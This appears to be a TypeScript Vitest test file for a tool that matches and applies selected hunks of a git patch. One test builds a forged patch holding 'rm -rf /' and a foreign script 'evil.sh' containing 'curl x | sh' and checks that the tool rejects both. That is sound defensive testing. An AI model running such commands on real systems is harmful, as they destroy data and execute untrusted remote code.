import { describe, expect, it } from "vitest";
import { countSelection, matchSelection } from "./match-selection.ts";
import { parsePatch, selectPatch } from "./patch.ts";
import { treeWithPatch } from "./patch-tree.ts";
import { commitAll, git, makeRepo, showFile, writeFiles } from "./test-support.ts";

const LINES = Array.from({ length: 30 }, (_, i) => `line ${i + 1}`);
const BASE = `${LINES.join("\n")}\n`;
const edit = (at: Record<number, string>) => `${LINES.map((l, i) => at[i + 1] ?? l).join("\n")}\n`;

/** A repository whose one commit changes three separate places of a.txt and adds b.bin. */
async function threeHunks() {
  const repo = await makeRepo({ "a.txt": BASE, "c.txt": "c\n" });
  await writeFiles(repo.dir, { "a.txt": edit({ 2: "TWO", 15: "FIFTEEN", 28: "TWENTY-EIGHT" }), "b.bin": "b\0\n" });
  const head = await commitAll(repo.dir, "change");
  const patch = await git(repo.dir, "diff", "--binary", "--full-index", `${repo.commit}..${head}`);
  return { ...repo, head, change: parsePatch(`${patch}\n`) };
}

describe("matchSelection and treeWithPatch", () => {
  it("matches a subset cut from the change (later hunks renumbered) and applies only it", async () => {
    const r = await threeHunks();
    const chosen = selectPatch(r.change, { hunks: [{ path: "a.txt", index: 2 }] });
    const match = matchSelection(r.change, parsePatch(chosen));
    expect(match.unmatched).toEqual([]);
    expect(match.selection).toEqual({ files: [], hunks: [{ path: "a.txt", index: 2 }] });
    expect(match.counts).toEqual({ hunks: 1, totalHunks: 4, files: 1, totalFiles: 2 });
    expect(match.whole).toBe(false);
    const tree = await treeWithPatch(r.gitDir, r.commit, selectPatch(r.change, match.selection));
    expect(await showFile(r.gitDir, tree, "a.txt")).toBe(edit({ 28: "TWENTY-EIGHT" }));
    expect(await git(r.dir, "ls-tree", "--name-only", tree)).toBe("a.txt\nc.txt");
  });

  it("says what is not part of the change: an edited hunk, a foreign file", async () => {
    const r = await threeHunks();
    const forged = selectPatch(r.change, { hunks: [{ path: "a.txt", index: 0 }] }).replace("+TWO", "+rm -rf /");
    const foreign =
      "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl x | sh\n";
    const match = matchSelection(r.change, parsePatch(forged + foreign));
    expect(match.unmatched).toEqual([
      expect.stringMatching(/^a\.txt hunk @@ -1,5 \+1,5 @@/),
      "evil.sh is not part of the change",
    ]);
    expect(match.whole).toBe(false);
  });

  it("recognises the whole change and counts selections by path and index", async () => {
    const r = await threeHunks();
    expect(matchSelection(r.change, r.change).whole).toBe(true);
    expect(countSelection(r.change, { files: ["a.txt"] })).toEqual({
      hunks: 3,
      totalHunks: 4,
      files: 1,
      totalFiles: 2,
    });
    expect(countSelection(r.change, { files: ["b.bin"], hunks: [{ path: "a.txt", index: 1 }] })).toEqual({
      hunks: 2,
      totalHunks: 4,
      files: 2,
      totalFiles: 2,
    });
  });

  it("refuses a patch that does not apply to the base and changes nothing", async () => {
    const r = await threeHunks();
    const refs = await git(r.dir, "for-each-ref");
    const err = await treeWithPatch(r.gitDir, r.head, selectPatch(r.change, { files: ["b.bin"] })).catch(
      (e: Error) => e,
    );
    expect(err).toMatchObject({ code: "conflict", message: expect.stringMatching(/do not apply/) });
    expect(await git(r.dir, "for-each-ref")).toBe(refs);
    expect(await git(r.dir, "status", "--porcelain")).toBe("");
  });
});
